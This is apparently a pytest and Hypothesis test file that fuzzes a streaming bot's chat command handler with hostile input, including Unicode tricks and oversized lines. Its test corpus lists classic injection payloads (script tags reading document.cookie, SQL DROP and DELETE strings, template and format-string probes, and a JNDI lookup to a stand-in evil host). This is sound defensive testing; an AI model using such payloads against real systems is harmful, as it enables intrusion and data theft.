"""Hostile chat through the real pipeline: a ``Director`` in front of a running
``Engine`` on a temporary SQLite store, fed a corpus of nasty lines and
Hypothesis-generated text.

What must hold for every line, whoever sends it: nothing raises out of
``Director.handle`` (nor lands in its catch-all); a refusal always says why;
nothing that reaches the world (character names, speech, the ``chat`` and
``event_applied`` messages, the replies) carries control or format characters,
bidi overrides, lone surrogates or more than two combining marks in a row, and
every message still encodes as UTF-8 JSON; the engine keeps ticking throughout.
"""

from __future__ import annotations

import asyncio
import contextlib
import unicodedata
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from conftest import FakeClock
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from engine import Engine, Role
from streambot.app import engine_config
from streambot.chat import ChatMessage, ChatResult
from streambot.commands import DEFAULT_COMMANDS
from streambot.config import Config, parse_config
from streambot.director import Director

CATCH_ALL = "something went wrong with that command"  # Director.handle's answer to a bug
REFUSALS = {"denied", "invalid", "refused"}
BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
USERS = ["kim", "bob", "Amy", "mod"]
STALLED = 10.0  # seconds without an answer: the pipeline is stuck


def hostile_config(store: Path) -> Config:
    return parse_config({
        "store": {"path": str(store)},
        "video": {"width": 320, "height": 180, "fps": 30},
        "scene": {"characters": [{"name": "Ada", "x": 12}]},
        "chat": {"moderation": {"blocked_words": ["darn", "heck"], "user_burst": 50, "global_burst": 500}},
    })


def shows_cleanly(text: str | None, what: str) -> None:
    if text is None:
        return
    marks = 0
    for ch in text:
        category = unicodedata.category(ch)
        assert category not in ("Cc", "Cf", "Cs", "Co") and ch not in BIDI, f"{what} holds U+{ord(ch):04X}: {text!a}"
        marks = marks + 1 if category[0] == "M" else 0
        assert marks <= 2, f"{what} stacks combining marks: {text!a}"


def action_texts(action: Any) -> list[str | None]:
    return [getattr(action, field, None) for field in ("text", "name", "target")]


def strings_in(data: Any) -> Iterator[str]:
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for key, value in data.items():
            yield from strings_in(key)
            yield from strings_in(value)
    elif isinstance(data, (list, tuple)):
        for value in data:
            yield from strings_in(value)


class Live:
    """A running engine and its director on one event loop, kept across
    Hypothesis examples (starting an engine per example would take minutes)."""

    def __init__(self, store: Path) -> None:
        self.clock = FakeClock()
        self.runner = asyncio.Runner()
        config = hostile_config(store)
        self.engine: Engine = self.runner.run(Engine(engine_config(config)).__aenter__())
        self.director = Director(config, self.engine, clock=self.clock)
        self.stream = self.engine.subscribe()  # every message the overlays get
        self.latecomers = 0

    def close(self) -> None:
        self.runner.run(self.engine.stop())
        self.runner.close()

    def handle(self, user: str, text: str, role: Role = Role.VIEWER, platform: str = "twitch") -> ChatResult:
        message = ChatMessage(user=user, text=text, role=role, platform=platform)
        result = self.runner.run(asyncio.wait_for(self.director.handle(message), STALLED))
        assert result.reply != CATCH_ALL, f"{text!a} from {user!a} hit a bug"
        if result.status in REFUSALS:
            assert result.reply and result.reply.strip(), f"{result.status} without a reason: {text!a}"
        shows_cleanly(result.reply, "a reply")
        for event in result.events:
            for field in action_texts(event.action):
                shows_cleanly(field, "an event")
            shows_cleanly(event.source.user, "an event's source")
        return result

    def check_the_world(self) -> None:
        """Everything published since the last look, and the world as it stands."""
        for item in self.stream.poll():
            item.json().encode("utf-8")  # what the overlay's websocket sends
            for text in strings_in(item.message.model_dump()):  # chat lines, events, vote options, ...
                shows_cleanly(text, f"a {item.type} message")
        state = self.runner.run(self.engine.state())
        for entity in state["entities"] + state["wings"]:
            shows_cleanly(entity["name"], "a character's name")
            shows_cleanly(entity["owner"], "a character's owner")
            if entity.get("speech"):
                shows_cleanly(entity["speech"]["text"], "speech")
        for text in strings_in(list(self.director.recent)):  # what /api/state shows
            shows_cleanly(text, "the recent chat")

    def still_streaming(self) -> None:
        """The frame loop kept going, and a plain command still gets through."""
        stats = self.engine.stats()
        assert self.engine.running and stats.store_error is None
        self.runner.run(asyncio.sleep(0.2))
        assert self.engine.stats().frames > stats.frames  # at 30 fps, about six more
        for line in ("!mode anarchy", "!unfreeze"):  # the fuzz may have voted or frozen the world
            self.handle("boss", line, Role.BROADCASTER)
        self.clock.advance(3600)
        self.latecomers += 1
        fresh = self.handle(f"latecomer{self.latecomers}", "!spawn cat")
        assert fresh.status in ("applied", "refused"), fresh.reply  # refused: a stage of locked characters


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    stage = Live(tmp_path_factory.mktemp("hostile") / "world.db")
    try:
        yield stage
    finally:
        stage.close()


# --- the corpus -------------------------------------------------------------------------------

ZALGO = "Z\u0337\u0322\u0349a\u0335\u0317\u0359l\u0334\u0321g\u0337\u034eo\u0335" + "\u0301" * 40
NASTY = [
    "x" * 5000,
    "!say " + "long " * 200,
    "\U0001f600" * 300,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3f3\ufe0f\u200d\U0001f308",
    "\u202eevil\u202c",
    "\u202e!say reversed",
    "\u2067\u05e9\u05dc\u05d5\u05dd\u2069 and \u202dLTR\u202c",
    "b\u200ba\u2060d\ufeff",
    "\u200b\u200b\u200b",
    ZALGO,
    "<img src=x onerror=alert(1)>",
    "<script>alert(document.cookie)</script>",
    "javascript:alert(1)",
    "</style><style>body{display:none}</style>",
    "'; DROP TABLE events;--",
    "Robert'); DELETE FROM takes WHERE ('1'='1",
    "{0.__class__.__mro__}",
    "%s%s%s%n%x",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} ${7*7} #{7*7}",
    "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645",
    "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd",
    "\u4f60\u597d\u4e16\u754c \u3053\u3093\u306b\u3061\u306f \uc548\ub155\ud558\uc138\uc694",
    "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35\u0e04\u0e23\u0e31\u0e1a",
    "\u0928\u092e\u0938\u094d\u0924\u0947 \u0926\u0941\u0928\u093f\u092f\u093e",
    "a\x00b\x00c",
    "\x1b[31mred\x1b[0m\x07",
    "line\r\nbreak\u2028sep\u2029para",
    "lone \ud800 surrogate \udfff",
    "\ue000private\U000f0000",
    "\U000e0041\U000e0042 tags",
    "d\u0430rn",
    "\uff44\uff41\uff52\uff4e",
    "h e c k",
]
COMMANDS = ["!say {}", "!say @Ada {}", "!spawn cat {}", "!spawn {}", "!rename {}", "!rename Ada {}", "!vote say {}",
            "!take save {}", "!timeout {}", "!pardon {}", "!{}", "{}", "!help {}", "!weather {}", "!move {} left"]
LINES = [template.format(nasty) for template in COMMANDS for nasty in NASTY] + [
    "!say !freeze", "!vote !vote 1", "!vote vote 1", "!say !reset", "!vote !reset", "!!say hi", "!say\u202e!freeze",
    "!spawn cat !freeze", "!rename !say", "!timeout !pardon", "!timeout @ 10", "!timeout kim 1e999", "!vote " * 100,
]


@pytest.mark.parametrize(
    ("role", "mode"), [(Role.VIEWER, "anarchy"), (Role.BROADCASTER, "anarchy"), (Role.VIEWER, "democracy")],
    ids=["viewers", "broadcaster", "viewers-voting"],
)
def test_the_corpus_of_nasty_lines(live: Live, role: Role, mode: str) -> None:
    live.handle("boss", f"!mode {mode}", Role.BROADCASTER)
    outcomes: dict[str, int] = {}
    for n, line in enumerate(LINES):
        live.clock.advance(11)  # past every cooldown: as many lines as possible reach the engine
        result = live.handle(USERS[n % len(USERS)] if role < Role.MODERATOR else "boss", line, role)
        outcomes[result.status] = outcomes.get(result.status, 0) + 1
        if n % 25 == 0:
            live.check_the_world()
    live.check_the_world()
    assert outcomes.get("applied" if mode == "anarchy" else "voted", 0) > 10, outcomes
    assert outcomes.get("invalid", 0) > 10 and outcomes.get("denied", 0) > 10, outcomes
    live.still_streaming()


def test_nasty_names_and_speech_reach_the_world_cleaned(live: Live) -> None:
    live.clock.advance(3600)
    assert live.handle("\u202eeve\u200b", "!spawn cat").status == "applied"
    assert live.handle("mod", f"!spawn dragon Zal{ZALGO[1:4]}go", Role.BROADCASTER).status in ("applied", "invalid")
    assert live.handle("eve", "!say hi\u202e there\x00 \u200bfriend \u0301\u0301\u0301\u0301").status == "applied"
    live.check_the_world()
    state = live.runner.run(live.engine.state())
    eve = next(e for e in state["entities"] if e["owner"] == "eve")  # "\u202eeve\u200b" is eve, cleaned
    assert eve["name"] == "eve" and eve["speech"]["text"] == "hi there friend \u0301\u0301"


def test_commands_inside_commands_stay_words(live: Live) -> None:
    live.clock.advance(3600)
    live.handle("boss", "!mode anarchy", Role.BROADCASTER)
    said = live.handle("kim", "!say @Ada !freeze")
    assert said.status == "applied" and said.reply == "done: !say @Ada !freeze"
    assert live.runner.run(live.engine.state())["frozen"] is False
    nested = live.handle("kim", "!vote !vote 1")
    assert nested.status == "invalid" and "a vote cannot hold another vote" in nested.reply
    assert live.handle("kim", "!spawn cat !freeze").status == "invalid"  # not a name, and not a command


# --- fuzzing ----------------------------------------------------------------------------------

ANY_CHAR = st.one_of(st.characters(), st.characters(categories=["Cs", "Cc", "Cf", "Co", "Mn", "Zl", "Zp"]))
ANY_TEXT = st.text(ANY_CHAR, max_size=120)
VERBS = sorted(set(DEFAULT_COMMANDS) | {alias for spec in DEFAULT_COMMANDS.values() for alias in spec.aliases})
FUZZ_LINES = st.one_of(
    ANY_TEXT,
    st.builds(str.format, st.sampled_from(["!say @Ada {}", "!spawn cat {}", "!rename Ada {}", "!vote say @Ada {}"]),
              ANY_TEXT),
    ANY_TEXT.map(lambda text: "!" + text),
    st.builds(lambda verb, rest: f"!{verb} {rest}", st.sampled_from(VERBS), ANY_TEXT),
    st.builds(lambda template, nasty, text: template.format(nasty + text),
              st.sampled_from(COMMANDS), st.sampled_from(NASTY), ANY_TEXT),
)
FUZZ_USERS = st.one_of(st.sampled_from(USERS), st.text(ANY_CHAR, max_size=30))
SETTINGS = settings(
    # An applied line waits for the next tick (1/30 s); 2 s leaves room for a busy 2-core machine.
    max_examples=120, deadline=timedelta(seconds=2), suppress_health_check=[HealthCheck.too_slow],
)


@SETTINGS
@given(line=FUZZ_LINES, user=FUZZ_USERS, role=st.sampled_from(list(Role)), wait=st.floats(0, 20))
def test_fuzz_any_line_from_anyone(live: Live, line: str, user: str, role: Role, wait: float) -> None:
    live.clock.advance(wait)
    live.handle(user, line, role)
    live.check_the_world()


@SETTINGS
@given(lines=st.lists(st.tuples(FUZZ_LINES, st.sampled_from(USERS), st.sampled_from(list(Role))), max_size=6))
def test_fuzz_bursts_from_a_few_chatters(live: Live, lines: list[tuple[str, str, Role]]) -> None:
    for line, user, role in lines:
        live.handle(user, line, role)
    live.check_the_world()


def test_the_stream_outlived_the_fuzzing(live: Live) -> None:
    live.still_streaming()


# --- strikes and timeouts through the director ---------------------------------------------


@contextlib.asynccontextmanager
async def directing(store: Path) -> Any:
    clock = FakeClock()
    config = hostile_config(store)
    async with Engine(engine_config(config)) as engine:
        yield Director(config, engine, clock=clock), clock


def chat(user: str, text: str, role: Role = Role.VIEWER, platform: str = "twitch") -> ChatMessage:
    return ChatMessage(user=user, text=text, role=role, platform=platform)


@pytest.mark.asyncio
async def test_strikes_time_a_viewer_out_and_a_moderator_pardons_them(tmp_path: Path) -> None:
    async with directing(tmp_path / "world.db") as (director, clock):
        for n, line in enumerate(["!say darn", "!spawn cat H\u0435ck", "!say d\u200ba\u0301rn"], start=1):
            clock.advance(5)
            result = await director.handle(chat("kim", line))
            assert result.status == "denied" and "not allowed" in result.reply
        assert result.reply.endswith("3 strikes: you are timed out from directing for 10 min")

        clock.advance(60)
        for line in ("!jump", "!spawn cat", "!nonsense", "!say", "!say " + "x" * 400):
            held = await director.handle(chat("Kim", line, platform="local"))
            assert (held.status, held.reply) == ("denied", "you are timed out from directing — 9 min left")
        assert (await director.handle(chat("kim", "just chatting"))).status == "ignored"

        pardon = await director.handle(chat("mod", "!pardon @KIM", Role.MODERATOR))
        assert (pardon.status, pardon.reply) == ("info", "KIM is pardoned")
        assert (await director.handle(chat("kim", "!spawn cat"))).status == "applied"
        again = await director.handle(chat("mod", "!pardon kim", Role.MODERATOR))
        assert again.reply == "kim had no timeout or strikes"


@pytest.mark.asyncio
async def test_a_moderator_times_a_chatter_out_for_a_while(tmp_path: Path) -> None:
    async with directing(tmp_path / "world.db") as (director, clock):
        denied = await director.handle(chat("kim", "!timeout bob"))
        assert denied.status == "denied" and denied.reply == "!timeout is for moderators"
        done = await director.handle(chat("mod", "!timeout @bob 90", Role.MODERATOR))
        assert (done.status, done.reply) == ("info", "bob is timed out from directing for 1 min 30s")
        assert (await director.handle(chat("mod", "!timeout kim", Role.MODERATOR))).reply == \
            "kim is timed out from directing for 10 min"
        held = await director.handle(chat("Bob", "!weather snow"))
        assert held.status == "denied" and held.reply == "you are timed out from directing — 1 min 30s left"
        clock.advance(90)
        assert (await director.handle(chat("bob", "!weather snow"))).status == "applied"
        assert "timed out" in (await director.handle(chat("kim", "!jump"))).reply
        bad = await director.handle(chat("mod", "!timeout kim forever", Role.MODERATOR))
        assert bad.status == "invalid" and "how long?" in bad.reply


@pytest.mark.asyncio
async def test_an_overlong_line_is_refused_saying_so(tmp_path: Path) -> None:
    async with directing(tmp_path / "world.db") as (director, _):
        for line in ("!say " + "a" * 400, "!jump" + " " * 400, "!nonsense " + "x" * 400):
            result = await director.handle(chat("kim", line))
            assert result.status == "denied" and result.reply.startswith(f"that line is {len(line)} characters long")
        assert (await director.handle(chat("kim", "x" * 400))).status == "ignored"  # not a command: not answered
